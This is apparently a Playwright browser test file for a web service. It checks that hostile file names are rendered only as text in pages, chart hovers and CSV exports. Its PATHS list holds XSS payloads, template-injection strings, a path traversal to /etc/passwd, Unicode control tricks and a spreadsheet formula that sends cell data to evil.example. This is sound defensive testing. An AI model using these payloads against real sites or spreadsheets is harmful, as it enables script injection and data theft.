"""Names that people did not mean well with: shown as text on every page, by scripts, too, and never more than that."""

import csv
import io
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import numpy as np
import pytest
from arrays import snapshot_of
from conftest import poll, serving

pytest.importorskip("playwright.sync_api", reason="Playwright is not installed: make test-browser")
from looking import PHONE, drawn, looking, overflow, shoot
from playwright.sync_api import Browser, Page, expect

from cpstream_service.app import create_app
from cpstream_service.settings import ServeSettings

pytestmark = pytest.mark.browser

PATHS = [
    '<script>alert("path")</script>.wav',
    '"><img src=x onerror=alert(1)>.wav',
    "'-alert(1)-'.wav",
    "</script><script>alert(2)</script>.wav",
    "<!--<script>.wav",
    "javascript:alert(3)",
    "{{ 7 * 7 }}{% raw %}.wav",
    "&lt;b&gt;&amp;amp;.wav",
    "%{x}<b>bold</b><br>%{customdata[0]}.wav",  # plotly's templates, and the tags that it knows
    "../../../etc/passwd",
    "\u202egpj.wav",
    "a\u2066b\u200bc\ufeff.wav",
    "bell\x07\x1b[31m\x00.wav",
    "two\nlines\r\n.wav",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "x" * 4096,
    ("long/" * 800) + "a b.wav",
    "🎤/日本語/عربى/ÄÖ.wav",
]
TRAIN, OTHER = '<img src=x onerror=alert("split")>', "\u202e\"'></script><script>alert(4)</script>{{ 7*7 }}" + "y" * 80
_INJECTED = """() => [
    ...document.querySelectorAll("img, iframe, object, embed, b, script:not([src]):not([type='application/json'])"),
    ...[...document.querySelectorAll("*")].filter((at) => [...at.attributes].some(({name}) => name.startsWith("on"))),
    ...document.querySelectorAll("a[href^='javascript:' i]"),
].map((at) => at.outerHTML.slice(0, 200))"""


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    rng, count = np.random.default_rng(0), 60
    paths = PATHS + [f"speaker/{index}.wav" for index in range(len(PATHS), count)]
    rows, cps = rng.standard_normal((count, 8)), rng.uniform(5, 25, count)
    arrays = {TRAIN: (rows, cps), OTHER: (rows[:30], cps[:30])}  # the same files, which the pages warn of
    snapshot = snapshot_of(tmp_path_factory.mktemp("hostile") / "s", arrays, {TRAIN: paths, OTHER: paths[:30]}, {"pitch": cps})
    with serving(create_app(snapshot, ServeSettings(state_dir=tmp_path_factory.mktemp("state")))) as url:
        table = "index,predicted\n" + "".join(f"{index},{rate + 1}\n" for index, rate in enumerate(cps))
        where = f"{url}/v1/splits/{quote(TRAIN, safe='')}/predictions"
        httpx.put(f"{where}/a.run", content=table, headers={"Content-Type": "text/csv"}).raise_for_status()
        refused = httpx.put(f"{where}/{quote('<b>x</b>', safe='')}", content=table, headers={"Content-Type": "text/csv"})
        assert refused.status_code == 422  # a run is called by letters that mean nothing
        poll(lambda: httpx.get(f"{url}/v1/splits/{quote(OTHER, safe='')}/statistics").status_code == 200)
        yield url


def test_no_name_is_more_than_text_on_any_page(chromium: Browser, url: str) -> None:
    train, other = (f"page/splits/{quote(name, safe='')}" for name in (TRAIN, OTHER))
    pages = ["", train, other, f"{train}/rows", f"{train}/rows?q={quote(PATHS[0])}", f"{train}/runs", f"{train}/runs/a.run"]
    pages += [f"{train}/samples/{index}" for index in range(0, len(PATHS), 2)] + [f"{other}/samples/3"]
    pages += [
        "page/versions",
        f"page/splits/{quote('<script>alert(6)</script>', safe='')}",
        f"{train}/runs/{quote('<b>', safe='')}",
    ]
    looks: list[tuple[dict[str, Any], list[str]]] = [({}, pages[:7]), ({"viewport": PHONE, "is_mobile": True}, pages)]
    for look, seen in looks:
        with looking(chromium, url, expects="404|422", **look) as page:
            for number, path in enumerate(seen):
                page.goto(path)
                drawn(page)
                assert page.evaluate(_INJECTED) == [], path
                assert overflow(page) == 0, path
                assert "49" not in page.get_by_role("heading", level=1).inner_text()
                shoot(page, f"hostile-{number:02d}-{'phone' if look else 'wide'}")


def test_a_name_is_shown_as_it_is_and_what_is_not_seen_as_an_escape(chromium: Browser, url: str) -> None:
    with looking(chromium, url) as page:
        page.goto(f"page/splits/{quote(TRAIN, safe='')}/rows")
        assert TRAIN in page.get_by_role("heading", level=1).inner_text()
        shown = page.locator("tbody").inner_text()
        for path in (*PATHS[:10], PATHS[14], PATHS[17]):
            assert path in shown, path
        for escape in (r"\u202egpj.wav", r"a\u2066b\u200bc\ufeff.wav", r"bell\x07\x1b[31m\x00.wav", r"two\nlines\r\n.wav"):
            assert escape in shown, escape
        links = page.locator("tbody a")
        for index in range(len(PATHS)):  # each leads to its own
            assert str(links.nth(index).get_attribute("href")).endswith(f"/{index}")


def test_a_hint_of_a_chart_is_text(chromium: Browser, url: str) -> None:
    """Plotly reads tags and templates of its own in what it shows."""
    with looking(chromium, url) as page:
        page.goto(f"page/splits/{quote(TRAIN, safe='')}")
        plot = page.locator(".plot.tall")
        plot.scroll_into_view_if_needed()
        expect(plot.locator(".points path").first).to_be_attached()
        seen = hints(page)
        for said in ('<script>alert("path")</script>.wav', "%{x}<b>bold</b><br>%{customdata[0]}.wav", "&lt;b&gt;&amp;amp;.wav"):
            assert any(said in hint for hint in seen), (said, seen)
        assert page.evaluate(_INJECTED) == []


def hints(page: Page) -> list[str]:
    """What each of the points with an odd name says when the mouse is upon it."""
    return [str(page.wait_for_function(_HINT, arg=point).json_value()) for point in range(len(PATHS))]


_HINT = """(point) => {
    const plot = document.querySelector(".plot.tall");
    Plotly.Fx.hover(plot, [{curveNumber: 0, pointNumber: point}]); // which does nothing so soon after the one before
    return plot._hoverdata?.[0].pointNumber === point && plot.querySelector(".hoverlayer").textContent;
}"""


def test_a_table_for_a_spreadsheet_has_no_formula(chromium: Browser, url: str) -> None:
    with looking(chromium, url) as page:
        page.goto(f"page/splits/{quote(TRAIN, safe='')}/rows")
        with page.expect_download() as download:
            page.get_by_role("link", name=re.compile("CSV")).click()
        text = download.value.path().read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 60
    assert rows[14]["file_path"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in (row["file_path"], *row))
